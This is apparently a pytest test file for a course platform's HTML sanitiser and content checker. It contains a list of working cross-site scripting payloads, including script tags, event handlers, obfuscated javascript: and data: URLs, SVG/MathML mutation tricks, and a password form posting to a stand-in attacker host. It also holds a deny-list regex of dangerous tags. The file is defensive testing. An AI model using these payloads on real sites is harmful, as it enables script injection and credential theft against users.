"""XSS corpus: whatever a trainer writes (by mistake or malice), stored HTML keeps to the allowlist:
no scripts, event handlers, javascript:/data: URLs, style attributes, iframes, forms, SVG or MathML."""
from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from modules.content.blocks import body_lines
from modules.content.checker import check_paths
from modules.content.raw_html import find_removed_html
from modules.content.rendering import FileRenderer
from modules.content.sanitise import ALLOWED_ATTRIBUTES, ALLOWED_CLASSES, ALLOWED_TAGS, sanitise
from modules.content.slots import SLOT_RE
from tests.content.conftest import lesson, write, write_course

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="images/pic.svg" onload="alert(1)">',
    "<body onload=alert(1)>",
    '<a href="https://example.org" onmouseover="alert(1)">hover</a>',
    '<a href="javascript:alert(1)">js</a>',
    '<a href="JaVaScRiPt:alert(1)">js</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>',
    '<a href=" javascript:alert(1)">space</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "[md js](javascript:alert(1))",
    "[md js upper](JAVASCRIPT:alert(1))",
    "[md data](data:text/html,<script>alert(1)</script>)",
    "![md data image](data:image/png;base64,iVBORw0KGgo=)",
    "[md entity](&#x6A;avascript:alert(1))",
    "<p style=\"background:url(javascript:alert(1))\">styled</p>",
    "A paragraph with an attribute list.\n{: style=\"color:red\" onclick=\"alert(1)\" }",
    "<svg onload=alert(1)><circle r=1></circle></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<iframe src="https://evil.example"></iframe>',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{display:none}</style>",
    '<div class="govuk-button" id="main-content">spoofed button and skip-link target</div>',
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<!-- <img src=x onerror=alert(1)> -->",
]

# Raw markup that must never appear (text such as "javascript:" in a sentence is harmless and is
# allowed; attributes are checked one by one below).
FORBIDDEN_TAG = re.compile(
    r"<\s*/?\s*(script|iframe|form|input|button|svg|math|object|embed|base|meta|link|style|template|body|noscript)\b",
    re.I,
)


class _Structure(HTMLParser):
    """Collects every tag and attribute in the output, so the test can hold them to the allowlist."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, list[tuple[str, str]]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, attrs))


def assert_safe(html: str) -> None:
    assert not FORBIDDEN_TAG.search(html), html
    parser = _Structure()
    parser.feed(html)
    for tag, attrs in parser.found:
        assert tag in ALLOWED_TAGS, tag
        for name, value in attrs:
            if name == "class":
                assert set((value or "").split()) <= ALLOWED_CLASSES.get(tag, set()), (tag, value)
            elif name == "rel":
                assert tag == "a" and value == "noopener noreferrer"
            else:
                assert name in ALLOWED_ATTRIBUTES.get(tag, set()), (tag, name)
            assert not name.startswith("on") and name != "style", (tag, name)
            if name in ("href", "src"):
                assert re.match(r"^(https?:|mailto:|tel:|#|/content/)", value or ""), (tag, name, value)
                assert "javascript" not in (value or "").lower() or value.startswith(("http", "/content/", "#"))
            if name == "id":
                assert value != "main-content"


def all_html(value, key: str = "") -> list[str]:
    """Every HTML string (``html`` and ``*_html`` fields) in a parsed structure."""
    if isinstance(value, str):
        return [value] if key == "html" or key.endswith("_html") else []
    if isinstance(value, dict):
        return [s for k, v in value.items() for s in all_html(v, k)]
    if isinstance(value, (list, tuple)):
        return [s for v in value for s in all_html(v, key)]
    if hasattr(value, "__dict__"):
        return [s for k, v in vars(value).items() if k not in ("header", "file_links", "lines", "links")
                for s in all_html(v, k)]
    return []


def all_text(value, key: str = "") -> list[str]:
    """Every plain-text title in a parsed structure (shown with autoescaping, never as HTML)."""
    if isinstance(value, str):
        return [value] if key in ("title", "text", "sentence_text") else []
    if isinstance(value, dict):
        return [s for k, v in value.items() for s in all_text(v, k)]
    if isinstance(value, (list, tuple)):
        return [s for v in value for s in all_text(v, key)]
    if hasattr(value, "__dict__"):
        return [s for k, v in vars(value).items() if k not in ("header", "file_links", "lines", "links")
                for s in all_text(v, k)]
    return []


@pytest.mark.parametrize("attack", ATTACKS)
def test_sanitiser_removes_the_attack(attack):
    assert_safe(sanitise(attack))


@pytest.mark.parametrize("attack", ATTACKS)
def test_rendered_markdown_with_the_attack_is_safe(attack):
    rendered = FileRenderer().block(f"Before.\n\n{attack}\n\nAfter.")
    assert_safe(rendered.html)
    assert "Before." in rendered.html and "After." in rendered.html


def test_harmless_formatting_survives():
    html = FileRenderer().block("Some <b>bold</b>, <em>em</em> and <abbr title=\"Child sexual exploitation\">CSE</abbr>.").html
    assert '<b>bold</b>' in html and "<em>em</em>" in html and '<abbr title="Child sexual exploitation">CSE</abbr>' in html


def test_every_part_of_every_module_kind_is_sanitised(tmp_path):
    """Attacks in section text, headings, decision options and consequences, reflections,
    quiz stems, options, feedback, explanations, sources and rewrite rules."""
    attacks = "\n\n".join(ATTACKS)
    inline = '<script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a>'
    root = tmp_path / "courses"
    write(root, "evil/course.md", f"""
        ---
        title: Evil course
        code: EVIL
        level: 1
        audience: all
        cpd_minutes: 10
        refresher_months: 12
        pass_mark: 50
        modules: [story, quiz]
        ---
        {inline}
    """)
    story = f"""---
title: Story
kind: case_study
minutes: 5
content_note: Test.
---
{attacks}

## Heading {inline}

!!! reflect "Pause {inline}"
    Reflect {inline}

### Decision: Choose {inline}

- [x] Option {inline}

    Consequence: {inline}

- [ ] Other option

    Consequence: Fine.

**Practice point:** {inline}
"""
    (root / "evil" / "01-story.md").write_text(story)
    quiz = f"""---
title: Quiz
kind: quiz
minutes: 5
---
{attacks}

## Question {inline}

Stem {inline}

- [x] Option {inline}

    Feedback {inline}

- [ ] Other

> Why {inline}

Source: {inline}

## Rewrite {inline} {{type=rewrite}}

> A risky sentence {inline}

- avoid "risky": Feedback {inline}
- expect "adult": Expect {inline}
- correct: Correct {inline}
"""
    (root / "evil" / "02-quiz.md").write_text(quiz)
    result = check_paths([root])
    assert {m.slug for m in result.modules} == {"story", "quiz"}
    story_module = next(m for m in result.modules if m.slug == "story")
    assert story_module.decision_points and story_module.reflections
    quiz_questions = next(m for m in result.modules if m.slug == "quiz").questions
    assert len(quiz_questions) == 2 and "correct_html" in quiz_questions[1].data
    strings = [s for m in result.modules for s in all_html(m)] + [result.courses[0].description_html]
    assert len(strings) >= 25
    titles = [t for m in result.modules for t in all_text(m)]
    assert any("Heading" in t for t in titles) and any("Pause" in t for t in titles)
    for title in titles:  # markup in a title is dropped, keeping its text
        assert "<" not in title, title
    slots = [name for html in strings for name in SLOT_RE.findall(html)]
    assert {name.partition(":")[0] for name in slots} == {"decision", "reflection"}
    for html in strings:
        # Slots are written by Sightline after sanitising (modules.content.slots), never by content.
        assert_safe(SLOT_RE.sub("", html))


# Reported, not lost silently ------------------------------------------------------------------

@pytest.mark.parametrize("attack", [a for a in ATTACKS if not a.startswith("<!--")])
def test_content_check_reports_every_attack_on_its_line(tmp_path, attack):
    """Whatever the sanitiser would remove, ``content check`` reports as an error on the attack's
    line, so an author finds out before learners see a page with a hole in it. (A comment is
    removed quietly: it is never shown anyway.)"""
    root = tmp_path / "courses"
    write_course(root, "evil", {"01-lesson.md": lesson(f"Before.\n\n{attack}\n\nAfter.")})
    result = check_paths([root])
    first = 8  # after five lines of front matter, "Before." and a blank line
    lines = {p.line for p in result.errors if p.path.name == "01-lesson.md"}
    assert lines & set(range(first, first + attack.count("\n") + 1)), [str(p) for p in result.problems]


@pytest.mark.parametrize("text, line, col, words", [
    ('A <a href="javascript:alert(1)">link</a>.', 1, 3, "found 'javascript:'"),
    ('A <a href=" JaVa&#x09;ScRiPt:alert(1)">link</a>.', 1, 3, "found 'JaVaScRiPt:'"),
    ('<a href="data:text/html,x">x</a>', 1, 1, "found 'data:'"),
    ('Text\n  <div onclick="x()">y</div>', 2, 3, "onclick= is removed from <div>"),
    ("<iframe src=https://example.org></iframe>", 1, 1, "link to the page instead"),
    ("<script>x()</script>", 1, 1, "put it in backticks"),
    ('<img src="images/a.png" alt="A">', 1, 1, "![what it shows](images/x.png)"),
    ('<a href="02-next.md">next</a>', 1, 1, "write them in Markdown"),
    ('<p id="main-content">x</p>', 1, 1, "#main-content is used by the page layout"),
    ('<p style="background: url(https://evil.example/x)">x</p>', 1, 1, "style= is removed"),
    ("A paragraph.\n{: .x onclick=\"x()\" }", 2, 7, "onclick= is removed"),
])
def test_removed_html_is_found_with_its_position_and_what_to_write(text, line, col, words):
    found = find_removed_html(body_lines(text, 1))
    assert [(p.line, p.col) for p in found][:1] == [(line, col)], found
    assert words in found[0].message


@pytest.mark.parametrize("text", [
    "Some <b>bold</b>, <em>em</em>, <abbr title=\"x\">CSE</abbr> and <a href=\"https://example.org\">a link</a>.",
    '<a href="#a-heading">up</a> and <a href="mailto:team@example.org">mail</a>',
    "Code shows as it is: `<script>alert(1)</script>` and ``<iframe onload=x>``.",
    "Escaped: \\<script> is shown as text.",
    "Autolinks: <https://example.org/a?onload=1> and <mailto:someone@example.org>.",
    "Maths: 1 < 2 and 3 > 2, a<b.",
    "<center>old</center> <font color=red>markup</font> keeps its text.",
    "<!-- a note for other authors <script>x()</script> -->",
    "## A heading {#own-anchor .x}",
])
def test_harmless_html_and_text_are_not_reported(text):
    assert find_removed_html(body_lines(text, 1)) == []


TOKENS = list("<>/=\"' abcxyz:&#;()!-[]*\n`{}.") + [
    "script", "javascript:", "onerror", "onload", "style", "svg", "math", "iframe", "href", "src",
    "data:", "<a ", "<img ", "&#x09;", "&#106;", "{: ", "](", "![", "<svg", "<script>", "</",
]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(TOKENS), max_size=80).map("".join))
def test_fuzzed_markup_never_escapes_the_allowlist(text):
    assert_safe(sanitise(text))
    assert_safe(FileRenderer().block(text).html)
